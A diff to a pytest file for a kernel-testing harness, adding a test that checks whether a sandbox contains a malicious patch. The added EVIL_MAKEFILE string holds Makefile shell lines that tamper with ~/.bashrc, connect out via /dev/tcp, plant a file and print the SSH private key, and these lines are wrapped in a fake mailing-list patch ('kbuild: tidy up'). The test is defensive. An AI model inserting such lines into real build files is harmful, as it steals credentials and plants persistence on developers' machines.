@@ -5,6 +5,7 @@ from __future__ import annotations
 
 import contextlib
 import dataclasses
+import difflib
 import re
 import socket
 import threading
@@ -13,9 +14,13 @@ from pathlib import Path
 
 import pytest
 
+from harness import profile, source
 from harness.errors import GuestError
 from harness.guest import start
-from harness.paths import Paths
+from harness.paths import Paths, default_paths
+from harness.progress import Quiet
+from harness.repository import Repository
+from harness.store import Store
 from harness.values import QemuPlan
 from tests.vm.outcome import Harness, Outcome
 from tests.vm.test_bad_guest import add_suite, faulty, left_behind
@@ -42,11 +47,14 @@ def service() -> Iterator[Service]:
     found = Service(ports=tuple(one.getsockname()[1] for one in (*listeners, datagrams)), callers=[])
 
     def accept(one: socket.socket) -> None:
-        while True:
-            try:
-                found.callers.append(one.accept()[1] if one is not datagrams else one.recvfrom(64)[1])
-            except OSError:
-                return
+        with contextlib.suppress(OSError):  # closed: the test is over
+            while True:
+                if one is datagrams:
+                    found.callers.append(one.recvfrom(64)[1])
+                    continue
+                connection, address = one.accept()
+                connection.close()
+                found.callers.append(address)
 
     threads = [threading.Thread(target=accept, args=(one,), daemon=True) for one in (*listeners, datagrams)]
     for thread in threads:
@@ -187,3 +195,43 @@ def test_a_guest_that_floods_and_then_crashes(harness: Harness, faulty: Path) ->
     assert verdicts["flood/test_faulty:flood"] in ("CRASH", "FAIL") and "CRASH" in verdicts.values(), outcome.text
     log = (outcome.folder / "guests/1/console.log").read_text()
     assert "sysrq" in log and not re.search(r"[\x00-\x08\x0b-\x1f\x7f-\x9f]", log)
+
+
+EVIL_MAKEFILE = """
+$(shell echo evil >>$(HOME)/.bashrc)
+$(shell bash -c 'echo x >/dev/tcp/127.0.0.1/@PORT@')
+$(shell touch @FOLDER@/planted)
+$(info reached: $(shell cat $(HOME)/.ssh/id_ed25519 2>/dev/null) $(SSH_AUTH_SOCK))
+"""
+
+
+def evil_series(folder: Path, port: int) -> Path:
+    """A patch of the real kernel's Makefile, which every make of it reads: a mail as it would come from a list."""
+    known = default_paths()
+    tree = source.obtain(profile.Profile().source, paths=known, store=Store(known.cache), progress=Quiet())
+    old = Repository(tree.repository).show(tree.commit, "Makefile").decode().splitlines(keepends=True)
+    text = EVIL_MAKEFILE.replace("@PORT@", str(port)).replace("@FOLDER@", str(folder))
+    new = old + text.splitlines(keepends=True)
+    diff = "".join(difflib.unified_diff(old, new, "a/Makefile", "b/Makefile"))
+    patch = folder / "evil.patch"
+    patch.write_text(
+        "From: Eve <eve@example.org>\nDate: Sat, 21 Nov 2026 12:00:00 +0000\nSubject: [PATCH] kbuild: tidy up\n\n"
+        f"Nothing to see.\n---\ndiff --git a/Makefile b/Makefile\n{diff}-- \n2.39.5\n"
+    )
+    return patch
+
+
+@pytest.mark.parametrize("sandboxed", [True, False])
+def test_a_series_whose_makefile_attacks(harness: Harness, service: Service, tmp_path: Path, sandboxed: bool) -> None:
+    home = tmp_path / "home"
+    (home / ".ssh").mkdir(parents=True)
+    (home / ".ssh" / "id_ed25519").write_text("the private key\n")
+    (home / ".bashrc").write_text("# mine\n")
+    patch = evil_series(tmp_path, service.ports[0])
+    words = ["config", "show", "--series", patch, *([] if sandboxed else ["--no-sandbox"])]
+    env = {"HOME": str(home), "HARNESS_CACHE": str(default_paths().cache), "SSH_AUTH_SOCK": f"{home}/agent"}
+    outcome = harness(*words, env=env)
+    assert "CONFIG_64BIT=y" in outcome.text, outcome.text
+    reached = [(home / ".bashrc").read_text() != "# mine\n", bool(service.callers), (tmp_path / "planted").exists()]
+    assert reached == [not sandboxed] * 3
+    assert ("warning: the sandbox is off" in outcome.text) == (not sandboxed)
